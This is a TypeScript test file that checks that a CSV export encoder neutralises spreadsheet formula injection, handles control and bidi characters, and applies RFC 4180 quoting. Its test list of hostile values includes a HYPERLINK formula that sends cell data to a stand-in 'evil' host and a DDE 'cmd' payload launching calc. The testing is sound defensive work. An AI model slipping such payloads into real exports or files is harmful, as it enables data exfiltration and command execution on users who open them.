/**
 * The CSV export's rules (docs/report.md "CSV"), on the encoder itself: read back by a real CSV
 * parser (csv-parse) and by a real spreadsheet reader (SheetJS `xlsx`), hostile values stay text.
 */
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import { describe, expect, test } from 'vitest';
import type { HostRow } from '../../shared/app/hostSurvey';
import { CSV_BOM, csvCell, csvValue, hostCsvHeader, hostCsvLine } from '../../shared/report/csv';

function row(ip: string, identity: Record<string, unknown>, hits = 0): HostRow {
  return { ip, hits, host_id: identity as HostRow['host_id'], source: 'local', learned: { visit: null, at: null } };
}

const at = { first_seen: '2024-01-01T00:00:00.000000+00:00', last_seen: '2024-01-02T00:00:00.000000+00:00' };

/** Values a log can carry that a spreadsheet would run, each as the first character of a cell. */
const HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTAB=1', '\r=1'];

describe('a value that could start a formula gets a leading quote', () => {
  test.each(HOSTILE)('%j', (value) => {
    expect(csvValue(value).startsWith("'")).toBe(true);
  });
  test('other values are left as they are, backslashes and non-ASCII letters included', () => {
    expect(csvValue('CORP\\alice')).toBe('CORP\\alice');
    expect(csvValue('mañana.example')).toBe('mañana.example');
    expect(csvValue('1=1')).toBe('1=1');
  });
  test('control and bidirectional characters are written visibly (no raw one can break a row or turn a line around)', () => {
    expect(csvValue('a\nb')).toBe('a\\nb');
    expect(csvValue('x\u001b[2Jy')).toBe('x\\x1b[2Jy');
    expect(csvValue('abc\u202edef')).toBe('abc\\u{202e}def');
    // A tab first: neutralised and shown.
    expect(csvValue('\tx')).toBe("'\\tx");
  });
});

describe('RFC 4180 quoting', () => {
  test('a cell with the delimiter, a quote or a line break is quoted, its quotes doubled', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
    expect(csvCell('a,b', ';')).toBe('a,b');
  });
});

describe('a file read back', () => {
  const rows = [
    row('10.0.0.1', { ...at, hostname: [{ host: 'dc1.corp', ...at }, { host: 'a,"b"', ...at }], roles: [{ name: 'domain controller', ...at }], username: [{ user: 'CORP\\alice', ...at }] }, 7),
    row('10.0.0.2', { ...at, hostname: HOSTILE.map((host) => ({ host, ...at })), 'tls.ja3': [{ hash: '=1+1', agent: [], ...at }] }),
    row('2001:db8::1', { ...at, hostname: [{ host: 'ünïcødé\u202e.example', ...at }] }),
  ];
  const columns = ['ip', 'hostnames', 'roles', 'users', 'ja3', 'hits', 'last_seen'] as const;
  const text = CSV_BOM + hostCsvHeader(columns) + rows.map((r) => hostCsvLine(r, columns)).join('');

  test('starts with the byte order mark and ends its lines with CRLF', () => {
    expect(text.startsWith('\ufeffAddress,')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(rows.length + 2);
  });

  test('csv-parse reads each cell as the values, one a line, with only the added quote to take off', () => {
    const records = parse(text, { bom: true, relaxColumnCount: false }) as string[][];
    expect(records[0]).toEqual(['Address', 'Host names', 'Roles', 'Users', 'JA3', 'Hits', 'Last seen']);
    const unquote = (cell: string) => cell.split('\n').map((v) => (v.startsWith("'") ? v.slice(1) : v));
    // Expected: the identities above, written by hand (control characters in their visible form).
    expect(records[1]!.map(unquote)).toEqual([['10.0.0.1'], ['dc1.corp', 'a,"b"'], ['domain controller'], ['CORP\\alice'], [''], ['7'], [at.last_seen]]);
    expect(unquote(records[2]![1]!)).toEqual(['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\\tTAB=1', '\\r=1']);
    expect(unquote(records[2]![4]!)).toEqual(['=1+1']);
    expect(records[3]![1]).toBe('ünïcødé\\u{202e}.example');
  });

  test('a spreadsheet reads every hostile cell as text, never as a formula', () => {
    const book = XLSX.read(text, { type: 'string', raw: false });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
    expect(cells.length).toBeGreaterThan(10);
    for (const [, cell] of cells) expect((cell as XLSX.CellObject).f).toBeUndefined();
    // The cell of the hostile host names, and the single-value JA3 one: strings.
    expect((sheet.B3 as XLSX.CellObject).t).toBe('s');
    expect((sheet.E3 as XLSX.CellObject).t).toBe('s');
    expect(String((sheet.E3 as XLSX.CellObject).v)).toBe("'=1+1");
  });
});
